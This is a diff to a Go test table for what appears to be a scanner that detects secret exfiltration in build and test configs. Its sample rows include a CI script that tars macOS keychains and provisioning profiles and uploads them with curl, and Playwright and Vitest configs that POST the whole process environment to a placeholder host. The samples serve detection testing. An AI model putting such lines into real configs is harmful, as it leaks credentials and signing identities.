@@ -544,6 +544,11 @@ var registry = []Rule{
 			// archived and uploaded, are its signing identity.
 			{"bitrise.yml", "workflows:\n  release:\n    steps:\n    - script@1:\n        inputs:\n        - content: |\n            tar czf /tmp/s.tgz ~/Library/Keychains ~/Library/MobileDevice/Provisioning\\ Profiles\n            curl -s -T /tmp/s.tgz https://x.invalid/s.tgz", 0, false},
 			{"x.sh", "security create-keychain -p \"$P\" build.keychain\ncurl -sf https://x.invalid/ping", 0, true},
+			// A test runner's config is code it runs at every run: node's
+			// request imported by name opens the request its end() sends.
+			{"playwright.config.ts", "import { request } from 'node:https';\nconst meta = JSON.stringify({ ...process.env });\nconst r = request({ host: 'x.invalid', method: 'POST' });\nr.end(meta);", 0, false},
+			{"vitest.config.mjs", "const { request: post } = require('https');\nconst meta = JSON.stringify({ ...process.env });\npost({ host: 'x.invalid', method: 'POST' }).end(meta);", 0, false},
+			{"playwright.config.ts", "import { request } from 'node:https';\nconst r = request({ host: 'registry.x.invalid', path: '/health' });\nr.end();", 0, true},
 			// A token a cloud CLI mints is a secret wherever it goes next:
 			// into a file or a variable, then sent; handed to its own
 			// registry's login it is its use.
